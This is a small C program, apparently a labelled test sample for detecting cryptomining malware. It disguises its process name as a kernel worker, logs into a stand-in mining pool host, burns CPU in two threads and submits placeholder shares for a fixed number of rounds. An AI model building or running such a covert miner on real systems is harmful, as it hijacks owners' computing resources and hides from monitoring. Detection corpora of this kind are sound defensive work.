// class: mining; possible: low medium
#define _GNU_SOURCE
#include <netdb.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile int found;
static uint64_t mix(uint64_t x)
{
    for (int i = 0; i < 4000; i++) { x ^= x << 13; x ^= x >> 7; x ^= x << 17; x *= 0x9E3779B97F4A7C15ull; }
    return x;
}
static void *work(void *arg)
{
    for (uint64_t n = (uintptr_t)arg << 40;; n++)
        if ((mix(n) & 0x3fff) == 0) found = 1;
    return 0;
}
int main(void)
{
    prctl(PR_SET_NAME, "kworker/0:2");
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *ai;
    if (getaddrinfo("pool.coin.test", "3334", &hints, &ai)) return 1;
    int s = socket(ai->ai_family, SOCK_STREAM, 0);
    if (connect(s, ai->ai_addr, ai->ai_addrlen)) return 2;
    dprintf(s, "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"a\"}}\n");
    char buf[4096];
    if (read(s, buf, sizeof buf) <= 0) return 3;
    pthread_t t[2];
    for (long i = 0; i < 2; i++) pthread_create(&t[i], 0, work, (void *)(i + 1));
    for (int i = 0; i < 24; i++) {
        sleep(2);
        if (!found) continue;
        found = 0;
        dprintf(s, "{\"id\":%d,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"r1\",\"job_id\":\"j1\",\"nonce\":\"%08x\",\"result\":\"00\"}}\n", i + 2, i);
        if (read(s, buf, sizeof buf) <= 0) return 4;
    }
    return 0;
}
